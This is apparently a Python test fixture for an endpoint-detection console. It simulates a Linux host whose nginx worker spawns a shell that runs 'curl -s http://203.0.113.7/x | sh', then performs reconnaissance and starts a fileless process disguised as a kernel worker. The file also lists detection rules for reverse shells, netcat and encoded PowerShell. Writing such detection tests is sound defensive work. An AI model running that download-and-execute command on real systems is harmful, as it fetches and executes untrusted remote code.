"""A host's afternoon, told by hand: a web server is used as a door, ordinary work goes on beside it."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path

from edr_tui.detect import Detector, Subject, alert_of, load_rules
from edr_tui.engine import Engine
from edr_tui.model.event import AnyEvent, SnapshotSpan
from edr_tui.model.ledger import SourceHealth
from edr_tui.model.process import ProcessRecord, Provenance, Tty, User
from edr_tui.sources.memory import MemorySource
from tests.telling import EPOCH, SECOND, Teller

DAY = 86_400.0
NOW = 3 * DAY + 15_140  # seconds after the epoch of tests.telling


class Story:
    """Tells processes by short names, and remembers them."""

    def __init__(self) -> None:
        self.tell = Teller()
        self.events: list[AnyEvent] = []
        self.records: dict[str, ProcessRecord] = {}

    def was(self, key: str, pid: int, parent: str | None, at: float, user: str, command: str, **more) -> None:
        """It runs when the console is opened."""
        self._record(key, pid, parent, at, user, command, Provenance.INFERRED, more)
        self.events.append(self.tell.snapshot(self.records[key], NOW - 60))

    def start(self, key: str, pid: int, parent: str, at: float, user: str, command: str, **more) -> None:
        """It starts while we look, `at` seconds before now."""
        at = NOW - at
        self._record(key, pid, parent, at, user, command, Provenance.SEEN, more)
        self.events.append(self.tell.start(self.records[key], at))

    def exit(self, key: str, at: float, code: int = 0) -> None:
        """It ends `at` seconds before now."""
        self.events.append(self.tell.exit(self.records[key], NOW - at, code))

    def _record(self, key, pid, parent, at, user, command, provenance, more) -> None:
        name = more.pop("name", key)
        args = more.pop("args", None) or command.split(" ")
        more.setdefault("working_directory", "/")
        record = self.tell.record(
            pid,
            self.records.get(parent) if parent else None,
            at=at,
            name=name,
            args=args,
            user=user,
            provenance=provenance,
            executable=more.pop("executable", None),
            **more,
        )
        ids = {"root": "0", "www-data": "33", "postgres": "105", "ana": "1000", "1000": "1000"}
        self.records[key] = replace(record, user=User(id=ids[user], name=None if user == "1000" else user))


def web1() -> list[AnyEvent]:
    """The events of the scenario, a snapshot first."""
    story = Story()
    pts = {"tty": Tty(major=136, minor=0, name="pts/0")}
    was, start = story.was, story.start
    was("systemd", 1, None, 0, "root", "/sbin/init", executable="/usr/lib/systemd/systemd")
    was("systemd-journald", 388, "systemd", 2, "root", "/lib/systemd/systemd-journald")
    was("cron", 644, "systemd", 8, "root", "/usr/sbin/cron -f")
    was("containerd", 702, "systemd", 9, "root", "/usr/bin/containerd")
    was(
        "shim",
        2210,
        "containerd",
        900,
        "root",
        "containerd-shim-runc-v2 -namespace moby -id 9f1c77ae01",
        name="containerd-shim",
    )
    was("node", 2231, "shim", 901, "1000", "node server.js")
    was("npm", 2244, "node", 903, "1000", "npm run worker")
    was(
        "nginx",
        811,
        "systemd",
        130,
        "root",
        "",
        args=["nginx: master process /usr/sbin/nginx"],
        executable="/usr/sbin/nginx",
    )
    was(
        "worker1",
        812,
        "nginx",
        130.01,
        "www-data",
        "",
        name="nginx",
        args=["nginx: worker process"],
        executable="/usr/sbin/nginx",
        working_directory="/var/www/html",
    )
    was(
        "worker2",
        813,
        "nginx",
        130.01,
        "www-data",
        "",
        name="nginx",
        args=["nginx: worker process"],
        executable="/usr/sbin/nginx",
    )
    was(
        "sshd",
        901,
        "systemd",
        12,
        "root",
        "",
        args=["sshd: /usr/sbin/sshd -D [listener]"],
        executable="/usr/sbin/sshd",
    )
    was(
        "postgres",
        1033,
        "systemd",
        14,
        "postgres",
        "/usr/lib/postgresql/15/bin/postgres -D /var/lib/postgresql/15/main",
    )
    for number, job in enumerate(("checkpointer", "walwriter", "autovacuum launcher")):
        was(job, 1040 + number, "postgres", 15, "postgres", "", name="postgres", args=[f"postgres: {job}"])
    was("user-systemd", 1402, "systemd", 4000, "ana", "/lib/systemd/systemd --user", name="systemd")
    was(
        "tmux",
        1777,
        "user-systemd",
        5000,
        "ana",
        "tmux new -s work",
        name="tmux: server",
        executable="/usr/bin/tmux",
    )
    was("bash", 1778, "tmux", 5001, "ana", "-bash", **pts)
    was(
        "pytest",
        4402,
        "bash",
        NOW - 70,
        "ana",
        "python3 -m pytest -q",
        name="python3",
        executable="/usr/bin/python3.11",
        **pts,
    )
    count = len(story.events)
    span = SnapshotSpan(first=1, last=count, count=count)
    story.events.append(
        story.tell.status(NOW - 60, span, interval_ns=SECOND, counters={"forks_unseen_at_most": 3})
    )
    start("CRON", 4598, "cron", 30, "root", "/usr/sbin/CRON -f", executable="/usr/sbin/cron")
    start("run-parts", 4599, "CRON", 30, "root", "run-parts --report /etc/cron.hourly")
    story.exit("run-parts", 29)
    story.exit("CRON", 29)
    shell = {"executable": "/usr/bin/dash", "working_directory": "/var/www/html/uploads"}
    start(
        "sh",
        4711,
        "worker1",
        2.4,
        "www-data",
        "",
        args=["sh", "-c", "curl -s http://203.0.113.7/x | sh"],
        **shell,
    )
    start("curl", 4712, "sh", 2.3, "www-data", "curl -s http://203.0.113.7/x")
    start("sh2", 4713, "sh", 2.3, "www-data", "sh", name="sh", **shell)
    story.exit("curl", 1.9)
    start("id", 4716, "sh2", 1.8, "www-data", "id")
    story.exit("id", 1.799)
    start("uname", 4717, "sh2", 1.7, "www-data", "uname -a")
    story.exit("uname", 1.699)
    start(
        "kworkerds",
        4719,
        "sh2",
        1.2,
        "www-data",
        "",
        args=["[kworker/0:1]"],
        executable="/memfd:kworkerds (deleted)",
    )
    story.events.append(
        story.tell.status(NOW - 0.5, span, interval_ns=SECOND, counters={"forks_unseen_at_most": 5})
    )
    return story.events


# The rules that the screens show: a new bundled rule changes no picture.
RULES = {
    "database_starts_shell",
    "decoded_text_into_shell",
    "download_into_shell",
    "netcat_hands_over_shell",
    "office_starts_script_host",
    "powershell_encoded_command",
    "program_runs_from_memory",
    "reverse_shell_through_dev_tcp",
    "services_starts_powershell",
    "shell_connects_through_dev_tcp",
    "shell_made_interactive",
    "web_server_starts_command_shell",
    "web_server_starts_shell",
}


def engine_over(source: MemorySource, clock=lambda: EPOCH + round(NOW * SECOND)) -> Engine:
    """The real engine with some of the bundled rules."""
    detector = Detector([rule for rule in load_rules().rules if Path(rule.path).stem in RULES])

    def detect(process, ancestors, host, at_ns):
        for match in detector.evaluate(Subject(process, ancestors), host.os_type):
            yield alert_of(match, process, ancestors, host, at_ns)

    return Engine(source, detect, clock)


def source_of(events: list[AnyEvent]) -> MemorySource:
    """A live source that has told these."""
    source = MemorySource(events)
    source.turn(SourceHealth.LIVE)
    return source
